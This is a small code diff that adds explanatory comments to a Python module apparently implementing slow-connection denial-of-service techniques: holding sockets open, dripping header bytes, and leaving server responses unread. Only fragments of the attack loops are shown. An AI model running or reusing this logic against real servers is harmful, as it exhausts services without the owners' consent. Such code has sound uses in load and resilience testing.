@@ -33,7 +33,7 @@ def _drip(socks: list[socket.socket], piece: bytes, tally: Tally) -> None:
             if not send(socks[at], piece, tally):
                 socks.pop(at).close()
             due += 1 / max(len(socks), 1)
-        time.sleep(_STEP)
+        time.sleep(_STEP)  # slowness is the attack
 
 
 def slow_heads(target: Target, size: int, tally: Tally) -> None:
@@ -99,7 +99,7 @@ def silent(target: Target, size: int, tally: Tally) -> None:
 def _wait(socks: list[socket.socket], tally: Tally) -> None:
     tally.ready.set()
     while tally.running():
-        time.sleep(_STEP)
+        time.sleep(_STEP)  # to do nothing is the attack
     for sock in socks:
         sock.close()
 
@@ -126,7 +126,7 @@ def _press(socks: list[socket.socket], make: Callable[[], bytes], tally: Tally) 
                 del rest[sock]
             moved = moved or count > 0
         if not moved:
-            time.sleep(0.001)
+            time.sleep(0.001)  # nobody takes anything: what it would burn, the front door could not have
 
 
 def tiny_requests(target: Target, size: int, tally: Tally) -> None:
@@ -145,7 +145,7 @@ def unread_answers(target: Target, size: int, tally: Tally) -> None:
     tally.ready.set()
     while tally.running():
         socks = [sock for sock in socks if send(sock, _UNBOUND * 200, tally)]
-        time.sleep(_STEP)
+        time.sleep(_STEP)  # they are full: a look now and then is enough
 
 
 def field_bombs(target: Target, size: int, tally: Tally) -> None:
